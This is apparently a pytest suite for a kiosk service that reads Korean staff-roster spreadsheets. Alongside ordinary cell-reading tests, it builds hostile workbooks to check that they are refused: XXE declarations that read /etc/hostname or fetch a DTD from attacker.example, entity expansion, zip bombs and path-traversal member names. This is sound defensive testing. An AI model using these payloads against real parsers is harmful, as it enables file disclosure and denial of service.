"""Workbooks: what their cells say, and which are refused before they are opened."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from datetime import date, datetime
from pathlib import Path

import pytest
import xlsxwriter

from kiosk.domain.errors import KioskError
from kiosk.services import roster_package
from kiosk.services.roster_shape import Table
from kiosk.services.roster_table import read_table

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{RELATIONS}"><sheets>'
    '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship '
    f'Id="r1" Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
SHEET = "xl/worksheets/sheet1.xml"


def sheet(rows: str) -> str:
    return f'<worksheet xmlns="{SPREADSHEET}"><sheetData>{rows}</sheetData></worksheet>'


def text(reference: str, value: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c>'


NAMES = sheet(f'<row r="1">{text("A1", "이름")}</row><row r="2">{text("A2", "김하늘")}</row>')


def package(parts: Mapping[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in {**PARTS, **parts}.items():
            archive.writestr(name, part)
    return stream.getvalue()


def read(folder: Path, data: bytes) -> Table:
    path = folder / "roster.xlsx"
    path.write_bytes(data)
    return read_table(path)


def refusal(folder: Path, data: bytes) -> str:
    with pytest.raises(KioskError) as caught:
        read(folder, data)
    return caught.value.code


@pytest.fixture
def workbook(tmp_path: Path) -> Callable[..., Table]:
    """Write a workbook as an office program does, and read its table."""

    def made(fill: Callable[[xlsxwriter.Workbook], None]) -> Table:
        path = tmp_path / "office.xlsx"
        with xlsxwriter.Workbook(path, {"default_date_format": "yyyy-mm-dd hh:mm"}) as book:
            fill(book)
        return read_table(path)

    return made


def test_typed_cells_read_as_people_type_them(workbook: Callable[..., Table]) -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        page = book.add_worksheet()
        page.write_row(0, 0, ["이름", "연락처", "ID", "비고", "유효시작", "유효종료"])
        page.write_row(1, 0, ["김하늘", 1012345678, 12.5, True])
        page.write_datetime(1, 4, datetime(2026, 3, 26, 14, 30))  # noqa: DTZ001 - a cell has none
        page.write_datetime(1, 5, date(2026, 3, 27), book.add_format({"num_format": "yyyy-mm-dd"}))

    rows = workbook(fill).rows
    assert rows[1] == (
        2,
        ["김하늘", "1012345678", "12.5", "TRUE", "2026-03-26 14:30:00", "2026-03-27"],
    )


def test_lines_are_sheet_rows_and_columns_begin_at_a(workbook: Callable[..., Table]) -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        page = book.add_worksheet()
        page.write_row(3, 2, ["이름", "소속"])
        page.write_row(6, 2, ["김하늘", "시청"])

    assert workbook(fill).rows == [(4, ["", "", "이름", "소속"]), (7, ["", "", "김하늘", "시청"])]


def test_the_first_sheet_of_people_is_taken(workbook: Callable[..., Table]) -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        book.add_worksheet("안내").write(0, 0, "이 시트는 참고용입니다")
        hidden = book.add_worksheet("지난 명단")
        hidden.write_column(0, 0, ["이름", "지난이"])
        hidden.hide()
        book.add_worksheet("명단").write_column(0, 0, ["이름", "김하늘"])

    assert workbook(fill).rows[1][1] == ["김하늘"]


def test_without_people_the_first_sheet_with_cells_is_taken(workbook: Callable[..., Table]) -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        book.add_worksheet()
        book.add_worksheet().write(0, 0, "안내")

    assert workbook(fill).rows == [(1, ["안내"])]


def test_an_organisation_merged_over_rows_belongs_to_each(workbook: Callable[..., Table]) -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        page = book.add_worksheet()
        page.write_row(0, 0, ["소속", "이름", "연락처"])
        page.merge_range(1, 0, 4, 0, "광양시청")
        page.merge_range(1, 2, 2, 2, "010-1111-2222")
        page.write_column(1, 1, ["김하늘", "이바다", "박산"])
        page.write_row(5, 0, ["대학", "최강"])

    assert [cells for _, cells in workbook(fill).rows[1:]] == [
        ["광양시청", "김하늘", "010-1111-2222"],
        ["광양시청", "이바다", ""],
        ["광양시청", "박산", ""],
        ["대학", "최강", ""],
    ]


def test_formulas_and_errors_are_marked(tmp_path: Path) -> None:
    rows = (
        f'<row r="1">{text("A1", "이름")}{text("B1", "소속")}</row>'
        '<row r="2"><c r="A2"><f>B2</f><v>0</v></c><c r="B2" t="e"><v>#N/A</v></c></row>'
        '<row r="3"><c r="B3" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>'
    )
    table = read(tmp_path, package({SHEET: sheet(rows)}))
    assert table.marks == {(2, 0): "FORMULA", (2, 1): "CELL_ERROR", (3, 1): "CELL_ERROR"}
    assert [line for line, _ in table.rows] == [1, 2, 3]


def test_cells_without_references_are_counted(tmp_path: Path) -> None:
    rows = (
        "<row><c t='inlineStr'><is><t>이름</t></is></c></row>"
        "<row><c><f>1</f><v>1</v></c><c><v>2</v></c></row>"
    )
    table = read(tmp_path, package({SHEET: sheet(rows)}))
    assert table.marks == {(2, 0): "FORMULA"}


@pytest.mark.parametrize("reference", ["XFD1048576", "A200001", "GS1"])
def test_a_far_cell_is_refused_before_room_is_made(tmp_path: Path, reference: str) -> None:
    row = f'<row r="1">{text("A1", "이름")}</row><row r="9">{text(reference, "x")}</row>'
    assert refusal(tmp_path, package({SHEET: sheet(row)})) == "XLSX_TOO_LARGE"


def test_a_wide_and_long_sheet_is_refused(tmp_path: Path) -> None:
    row = (
        f'<row r="1">{text("A1", "이름")}{text("GR1", "x")}</row><row>{text("A199999", "x")}</row>'
    )
    assert refusal(tmp_path, package({SHEET: sheet(row)})) == "XLSX_TOO_LARGE"


def test_a_far_cell_that_is_only_coloured_does_no_harm(tmp_path: Path) -> None:
    row = f'<row r="1">{text("A1", "이름")}</row><row r="1048576"><c r="XFD1048576" s="0"/></row>'
    assert read(tmp_path, package({SHEET: sheet(row)})).rows == [(1, ["이름"])]


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
    ],
)
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml"])
def test_a_document_type_is_refused(tmp_path: Path, declaration: str, part: str) -> None:
    body = {**PARTS, SHEET: NAMES, "xl/sharedStrings.xml": "<sst/>"}[part]
    data = package({SHEET: NAMES, part: declaration + body})
    assert refusal(tmp_path, data) == "XLSX_UNSAFE"


def test_a_document_type_in_another_encoding_or_part_name_is_refused(tmp_path: Path) -> None:
    hidden = f'<!DOCTYPE w [<!ENTITY x "y">]>{NAMES}'
    assert refusal(tmp_path, package({SHEET: hidden.encode("utf-16")})) == "XLSX_UNSAFE"
    relations = PARTS["xl/_rels/workbook.xml.rels"].replace("sheet1.xml", "sheet1.bin")
    parts = {"xl/_rels/workbook.xml.rels": relations, "xl/worksheets/sheet1.bin": hidden}
    assert refusal(tmp_path, package(parts)) == "XLSX_UNSAFE"


def test_a_bomb_is_refused(tmp_path: Path) -> None:
    bomb = package({SHEET: NAMES, "xl/sharedStrings.xml": b"<sst>" + b" " * 3_000_000})
    assert refusal(tmp_path, bomb) == "XLSX_UNSAFE"


def test_a_bomb_with_a_false_size_is_refused(tmp_path: Path) -> None:
    data = bytearray(package({SHEET: NAMES, "xl/sharedStrings.xml": b"<sst>" + b" " * 3_000_000}))
    size = (3_000_005).to_bytes(4, "little")
    assert data.count(size) == 2
    assert (
        refusal(tmp_path, bytes(data).replace(size, (100).to_bytes(4, "little"))) == "XLSX_UNSAFE"
    )


@pytest.mark.parametrize(("limit", "value"), [("MEMBER_LIMIT", 4), ("UNPACKED_LIMIT_BYTES", 1_000)])
def test_too_much_in_a_package_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
) -> None:
    monkeypatch.setattr(roster_package, limit, value)
    assert refusal(tmp_path, package({SHEET: NAMES})) == "XLSX_UNSAFE"


def test_members_that_differ_in_case_only_are_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, package({SHEET: NAMES, SHEET.upper(): NAMES})) == "XLSX_UNSAFE"


def test_overlapping_merges_are_refused(tmp_path: Path) -> None:
    merges = '<mergeCell ref="A2:A9"/>' * 3
    data = NAMES.replace("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")
    assert refusal(tmp_path, package({SHEET: data})) == "XLSX_UNSAFE"


def test_members_outside_the_package_are_never_written(tmp_path: Path) -> None:
    inside = tmp_path / "inner"
    inside.mkdir()
    data = package({SHEET: NAMES, "../evil.txt": "x", "/abs.txt": "x"})
    assert len(read(inside, data).rows) == 2
    assert [path.name for path in tmp_path.rglob("*.txt")] == []


def test_bytes_after_the_end_are_overlooked(tmp_path: Path) -> None:
    assert len(read(tmp_path, package({SHEET: NAMES}) + b"trailing").rows) == 2


def test_a_workbook_named_csv_is_still_one(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_bytes(package({SHEET: NAMES}))
    assert read_table(path).encoding == "xlsx"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"hello", "XLSX_BROKEN"),
        (b"PK\x03\x04 hello", "XLSX_BROKEN"),
        (package({SHEET: NAMES})[:-40], "XLSX_BROKEN"),
        (package({SHEET: NAMES[:-9]}), "XLSX_BROKEN"),
        (package({SHEET: sheet('<row r="1"><c r="1A"/></row>')}), "XLSX_BROKEN"),
        (package({SHEET: sheet('<row r="one"/>')}), "XLSX_BROKEN"),
        (package({"xl/worksheets/other.xml": NAMES}), "XLSX_BROKEN"),
        (package({SHEET: sheet("")}), "FILE_EMPTY"),
    ],
)
def test_a_broken_workbook_is_said(tmp_path: Path, data: bytes, code: str) -> None:
    assert refusal(tmp_path, data) == code


def test_another_zip_is_no_roster(tmp_path: Path) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert refusal(tmp_path, stream.getvalue()) == "NOT_A_ROSTER"


def test_an_encrypted_member_is_said(tmp_path: Path) -> None:
    data = bytearray(package({SHEET: NAMES}))
    directory = data.rindex(b"PK\x01\x02")
    data[directory + 8] |= 1
    assert refusal(tmp_path, bytes(data)) == "FILE_ENCRYPTED"


def test_a_flipped_byte_anywhere_is_read_or_refused(tmp_path: Path) -> None:
    whole = package({SHEET: NAMES})
    for place in range(0, len(whole), 7):
        data = bytearray(whole)
        data[place] ^= 0x55
        try:
            read(tmp_path, bytes(data))
        except KioskError:
            continue
